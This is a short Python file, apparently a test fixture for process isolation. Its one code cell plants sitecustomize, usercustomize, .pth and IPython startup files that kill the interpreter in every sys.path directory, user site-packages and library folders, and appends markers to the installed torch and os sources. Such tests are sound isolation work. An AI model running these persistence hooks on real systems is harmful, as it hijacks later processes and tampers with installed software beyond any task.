"""Writes sitecustomize, .pth files and IPython profiles wherever the next process of this class might run them."""

CELLS = [
    r"""
import os, site, sys
evil = "import os; os._exit(3)  # " + FOOTPRINT
places = [*sys.path, site.getusersitepackages(), os.path.expanduser("~/.ipython/profile_default/startup"), "/root/.config/matplotlib",
          os.path.dirname(os.__file__), os.path.dirname(torch.__file__), SCENE["assignment"] + "/files/vae_lesson"]
for place in places:
    for name in ("sitecustomize.py", "usercustomize.py", "zz.pth", "startup.py", "__pycache__/x.pyc"):
        try:
            os.makedirs(place, exist_ok=True)
            with open(os.path.join(place, FOOTPRINT + name), "w") as file:
                file.write(evil)
        except OSError:
            pass
for path in (torch.__file__, os.__file__):
    try:
        open(path, "a").write("\n# " + FOOTPRINT)
    except OSError:
        pass
"""
]
